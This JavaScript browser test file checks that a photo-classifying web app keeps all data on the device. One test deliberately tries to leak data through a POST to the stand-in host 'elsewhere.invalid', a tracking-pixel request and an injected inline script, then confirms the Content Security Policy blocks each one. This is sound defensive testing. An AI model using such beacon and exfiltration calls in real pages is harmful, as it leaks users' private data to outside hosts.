// Nothing leaves the device. Every other test watches the requests too; these try to break out.

import { readFileSync, readdirSync } from 'node:fs';
import { DIST, expect, photos, test } from './site.mjs';

test('a whole job asks the server for nothing but the files of the site', async ({ person, watch }) => {
  await person.open();
  await person.addClass('cat');
  await person.addPhotos('cat', photos('cat', 2));
  const files = new Set(readdirSync(DIST, { recursive: true }).map((file) => new URL(file, person.address).pathname));
  const asked = watch.requests.map((request) => new URL(request.url())).filter((url) => url.protocol === 'http:');
  expect(asked.length).toBeGreaterThan(5);
  for (const url of asked) expect(url.pathname === '/' || files.has(url.pathname), url.href).toBe(true);
});

test.describe('a script that tries to send something', () => {
  test.use({ provoked: [/Content Security Policy/] });

  test('is stopped by the page itself', async ({ person, page }) => {
    await person.open();
    const outcomes = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const elsewhere = 'http://elsewhere.invalid/';
      const fetched = await fetch(elsewhere, { method: 'POST', body: 'a photo' }).then(() => 'sent', () => 'refused');
      const image = new Image();
      image.src = `${elsewhere}pixel.png`;
      const script = document.createElement('script');
      script.textContent = 'window.inlineScriptRan = true';
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { fetched, violations, inlineScriptRan: Boolean(window.inlineScriptRan) };
    });
    expect(outcomes.fetched).toBe('refused');
    expect(outcomes.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']));
    expect(outcomes.inlineScriptRan).toBe(false);
  });
});

test('the built page names no other origin', () => {
  const page = readFileSync(`${DIST}/index.html`, 'utf8');
  expect(page).toContain("default-src 'none'");
  expect(page).not.toMatch(/unsafe-inline|'unsafe-eval'/);
  expect(page).not.toMatch(/(src|href)="(https?:)?\/\//);
});
